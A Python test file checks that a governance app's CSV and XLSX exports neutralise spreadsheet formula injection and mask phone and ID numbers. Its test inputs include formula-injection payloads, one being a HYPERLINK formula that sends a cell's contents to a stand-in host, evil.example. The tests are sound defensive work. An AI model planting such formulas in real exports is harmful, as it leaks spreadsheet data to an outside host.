"""Exports are safe to open: no cell is a live formula (OWASP CSV injection), dates are real
dates in XLSX, and phone / identity numbers typed into titles are masked (PIPL)."""
from __future__ import annotations

import csv
import io
import zipfile
from datetime import datetime

import pytest
from openpyxl import load_workbook

from engine.db import write_session
from governance import exports
from governance.models import Whistle
from tests.webkit import DEFAULT_NOW, logged_in, prepare_database, report

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点这里")', "+1+2", "-2+3", "@SUM(1,2)"]
BLANK_LED = ["\t=1+1", "\r=1+1"]   # titles are stripped at intake; an evaluation opinion keeps them


@pytest.fixture
def hostile_db(db_url):
    factory = prepare_database(db_url)
    for title in HOSTILE:
        report(factory, title=title)
    report(factory, title="反映人电话13912345678，身份证340503199001011234")
    yield factory
    factory.kw["bind"].dispose()


def _register_titles_xlsx(data: bytes):
    ws = load_workbook(io.BytesIO(data)).worksheets[0]
    head = [c.value for c in ws[1]]
    return head, list(ws.iter_rows(min_row=2))


def test_xlsx_cells_starting_with_formula_characters_are_text_not_formulas(hostile_db):
    with hostile_db() as session:
        data = exports.export_register(session, "xlsx")
    head, rows = _register_titles_xlsx(data)
    titles = [row[head.index("标题")] for row in rows]
    by_value = {c.value: c for c in titles}
    for text in HOSTILE:
        cell = by_value[text]                      # the text itself, as typed …
        assert cell.data_type == "s", (text, cell.data_type)   # … never a formula (type 'f')
        assert cell.quotePrefix                    # Excel's "starts with an apostrophe" mark
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml


def test_csv_cells_starting_with_formula_characters_are_neutralised(hostile_db):
    with hostile_db() as session:
        data = exports.export_register(session, "csv")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    head = rows[0]
    titles = [r[head.index("标题")] for r in rows[1:]]
    for text in HOSTILE:
        assert "'" + text in titles
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(exports.FORMULA_STARTS), cell


def test_xlsx_dates_are_real_dates_and_csv_dates_iso(hostile_db):
    with hostile_db() as session:
        data = exports.export_register(session, "xlsx")
        text = exports.export_register(session, "csv").decode("utf-8-sig")
    head, rows = _register_titles_xlsx(data)
    reported = rows[0][head.index("上报时间")]
    assert reported.is_date and isinstance(reported.value, datetime)
    assert reported.value == DEFAULT_NOW.replace(tzinfo=None)          # Asia/Shanghai wall time
    assert "yy" in reported.number_format and "hh" in reported.number_format
    assert rows[0][head.index("办结时间")].value is None                 # no date: an empty cell
    csv_rows = list(csv.reader(io.StringIO(text)))
    assert csv_rows[1][csv_rows[0].index("上报时间")] == DEFAULT_NOW.isoformat(timespec="seconds")


def test_evaluations_neutralise_tab_and_return_and_hold_dates(hostile_db):
    from governance.models import Evaluation
    with write_session(hostile_db) as session:
        whistles = session.query(Whistle).order_by(Whistle.id).limit(len(BLANK_LED)).all()
        for whistle, opinion in zip(whistles, BLANK_LED):
            session.add(Evaluation(whistle_id=whistle.id, department_id="hs-cgj", grade="good", timeliness="good",
                                   plan="good", result="good", attitude="good", opinion=opinion, at=DEFAULT_NOW))
    with hostile_db() as session:
        ws = load_workbook(io.BytesIO(exports.export_evaluations(session, "xlsx"))).worksheets[0]
        text = exports.export_evaluations(session, "csv").decode("utf-8-sig")
    head = [c.value for c in ws[1]]
    for row in range(2, 2 + len(BLANK_LED)):
        when = ws.cell(row=row, column=head.index("评价时间") + 1)
        assert when.is_date and when.value == DEFAULT_NOW.replace(tzinfo=None)
        opinion = ws.cell(row=row, column=head.index("评价意见") + 1)
        assert opinion.value in BLANK_LED and opinion.data_type == "s" and opinion.quotePrefix
    opinions = [r[head.index("评价意见")] for r in csv.reader(io.StringIO(text))][1:]
    assert sorted(opinions) == sorted("'" + o for o in BLANK_LED)


def test_phone_and_id_numbers_in_titles_are_masked_in_exports(hostile_db):
    with hostile_db() as session:
        text = exports.export_register(session, "csv").decode("utf-8-sig")
        data = exports.export_register(session, "xlsx")
    assert "13912345678" not in text and "340503199001011234" not in text
    assert "139******78" in text
    head, rows = _register_titles_xlsx(data)
    titles = [r[head.index("标题")].value for r in rows]
    assert not any("13912345678" in t for t in titles)


def test_downloaded_export_holds_no_formula(db_url, tmp_path):
    """Through the web: the org department's download of the register."""
    from tests.webkit import demo_app
    with demo_app(db_url, tmp_path) as (app, factory):
        report(factory, title=HOSTILE[0])
        client = logged_in(app, "zzb-mas")
        res = client.get("/exports/register.xlsx", query_string={"year": "2026"})
        assert res.status_code == 200, res.status_code
        head, rows = _register_titles_xlsx(res.data)
        cell = [r[head.index("标题")] for r in rows if r[head.index("标题")].value == HOSTILE[0]][0]
        assert cell.data_type == "s"
